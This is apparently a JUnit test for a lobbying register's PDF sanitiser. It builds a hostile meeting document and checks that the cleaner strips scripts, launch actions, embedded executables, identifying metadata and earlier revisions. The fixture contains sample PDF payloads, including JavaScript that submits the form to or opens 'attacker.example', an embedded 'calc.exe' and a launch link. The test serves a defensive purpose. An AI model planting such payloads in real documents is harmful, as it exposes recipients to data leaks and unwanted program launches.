package gr.integrity.register.declaration;

import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSArray;
import org.apache.pdfbox.cos.COSDictionary;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.cos.COSString;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDDocumentCatalog;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.PDJavascriptNameTreeNode;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDPageContentStream;
import org.apache.pdfbox.pdmodel.common.PDMetadata;
import org.apache.pdfbox.pdmodel.common.PDRectangle;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.font.PDType1Font;
import org.apache.pdfbox.pdmodel.font.Standard14Fonts;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionLaunch;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionURI;
import org.apache.pdfbox.pdmodel.interactive.action.PDDocumentCatalogAdditionalActions;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotation;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationFileAttachment;
import org.apache.pdfbox.pdmodel.interactive.annotation.PDAnnotationLink;
import org.apache.pdfbox.text.PDFTextStripper;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.List;
import java.util.Map;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * A hostile meeting document, as a lobbyist could hand one over: it runs a script on opening, launches a program
 * from a link, carries an executable, names its author and the machine it was made on, and keeps an earlier
 * revision. What the register stores and publishes keeps the page and none of that.
 */
class AttachedPdfCleanerTest {

    private static final String PAGE_TEXT = "Memorandum on the coastal zone bill";

    @Test
    void scriptsLaunchesEmbeddedFilesMetadataAndEarlierRevisionsAreRemovedThePageStays() throws IOException {
        byte[] hostile = hostilePdf();
        assertEquals(2, occurrences(hostile, "%%EOF"), "the upload has an earlier revision");

        byte[] cleaned = AttachedDocuments.cleanPdf(hostile);

        assertEquals(1, occurrences(cleaned, "%%EOF"), "only the last revision is written");
        try (PDDocument document = Loader.loadPDF(cleaned)) {
            assertTrue(new PDFTextStripper().getText(document).contains(PAGE_TEXT));
            assertNull(document.getDocument().getTrailer().getDictionaryObject(COSName.INFO));
            assertNull(document.getDocumentInformation().getAuthor());
            PDDocumentCatalog catalog = document.getDocumentCatalog();
            assertNull(catalog.getCOSObject().getDictionaryObject(COSName.OPEN_ACTION));
            assertNull(catalog.getCOSObject().getDictionaryObject(COSName.AA));
            assertNull(catalog.getMetadata());
            PDDocumentNameDictionary names = catalog.getNames();
            assertTrue(names == null || names.getEmbeddedFiles() == null && names.getJavaScript() == null);

            PDPage page = document.getPage(0);
            assertNull(page.getCOSObject().getDictionaryObject(COSName.AA));
            List<PDAnnotation> annotations = page.getAnnotations();
            assertTrue(annotations.stream().noneMatch(a -> a instanceof PDAnnotationFileAttachment));
            List<PDAnnotationLink> links = annotations.stream().filter(a -> a instanceof PDAnnotationLink)
                    .map(a -> (PDAnnotationLink) a).toList();
            assertEquals(3, links.size(), "the links themselves stay");
            assertEquals(List.of("https://www.opengov.gr/"), links.stream().filter(l -> l.getAction() != null)
                    .map(l -> ((PDActionURI) l.getAction()).getURI()).toList(),
                    "only the web address stays; the launch and the javascript: address go");
        }
        assertFalse(new String(cleaned, StandardCharsets.ISO_8859_1).contains("calc.exe"));
        assertArrayEquals(cleaned, AttachedDocuments.cleanPdf(hostile), "the same upload is the same stored file");
    }

    private static byte[] hostilePdf() throws IOException {
        byte[] first;
        try (PDDocument document = new PDDocument(); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            PDPage page = new PDPage();
            document.addPage(page);
            try (PDPageContentStream text = new PDPageContentStream(document, page)) {
                text.beginText();
                text.setFont(new PDType1Font(Standard14Fonts.FontName.HELVETICA), 12);
                text.newLineAtOffset(72, 700);
                text.showText(PAGE_TEXT);
                text.endText();
            }
            document.getDocumentInformation().setAuthor("Γιώργος Παπαδόπουλος, Γραφείο Υπουργού");
            document.getDocumentInformation().setCreator("WORKSTATION-17\\gpapad");
            PDMetadata xmp = new PDMetadata(document, new ByteArrayInputStream(
                    "<x:xmpmeta xmlns:x='adobe:ns:meta/'>gpapad</x:xmpmeta>".getBytes(StandardCharsets.UTF_8)));
            document.getDocumentCatalog().setMetadata(xmp);
            document.getDocumentCatalog().setOpenAction(new PDActionJavaScript("app.alert('opened')"));
            PDDocumentCatalogAdditionalActions onClose = document.getDocumentCatalog().getActions();
            onClose.setWC(new PDActionJavaScript("this.submitForm('https://attacker.example/')"));

            PDEmbeddedFile executable = new PDEmbeddedFile(document, new ByteArrayInputStream(
                    "MZ calc.exe".getBytes(StandardCharsets.US_ASCII)));
            PDComplexFileSpecification spec = new PDComplexFileSpecification();
            spec.setFile("calc.exe");
            spec.setEmbeddedFile(executable);
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(Map.of("calc.exe", spec));
            PDJavascriptNameTreeNode scripts = new PDJavascriptNameTreeNode();
            scripts.setNames(Map.of("start", new PDActionJavaScript("app.launchURL('https://attacker.example/')")));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            names.setJavascript(scripts);
            document.getDocumentCatalog().setNames(names);

            PDAnnotationFileAttachment attachment = new PDAnnotationFileAttachment();
            attachment.setFile(spec);
            attachment.setRectangle(new PDRectangle(72, 600, 20, 20));
            page.getAnnotations().add(attachment);
            PDActionLaunch launch = new PDActionLaunch();
            launch.setFile(spec);
            page.getAnnotations().add(link(launch, 500));
            PDActionURI script = new PDActionURI();
            script.setURI("javascript:app.alert(1)");
            page.getAnnotations().add(link(script, 450));
            PDActionURI web = new PDActionURI();
            web.setURI("https://www.opengov.gr/");
            page.getAnnotations().add(link(web, 400));
            COSDictionary pageActions = new COSDictionary();
            pageActions.setItem(COSName.O, new PDActionJavaScript("app.alert('page')"));
            page.getCOSObject().setItem(COSName.AA, pageActions);
            COSArray id = new COSArray();
            id.add(new COSString("WORKSTATION-17"));
            id.add(new COSString("WORKSTATION-17"));
            document.getDocument().getTrailer().setItem(COSName.ID, id);
            document.save(out);
            first = out.toByteArray();
        }
        try (PDDocument document = Loader.loadPDF(first); ByteArrayOutputStream out = new ByteArrayOutputStream()) {
            document.getDocumentInformation().setTitle("Υπόμνημα");
            document.getDocumentInformation().getCOSObject().setNeedToBeUpdated(true);
            document.getDocument().getTrailer().setNeedToBeUpdated(true);
            document.saveIncremental(out);
            return out.toByteArray();
        }
    }

    private static PDAnnotationLink link(org.apache.pdfbox.pdmodel.interactive.action.PDAction action, float y) {
        PDAnnotationLink link = new PDAnnotationLink();
        link.setRectangle(new PDRectangle(72, y, 200, 20));
        link.setAction(action);
        return link;
    }

    private static int occurrences(byte[] bytes, String marker) {
        String text = new String(bytes, StandardCharsets.ISO_8859_1);
        int count = 0;
        for (int at = text.indexOf(marker); at >= 0; at = text.indexOf(marker, at + 1)) {
            count++;
        }
        return count;
    }
}
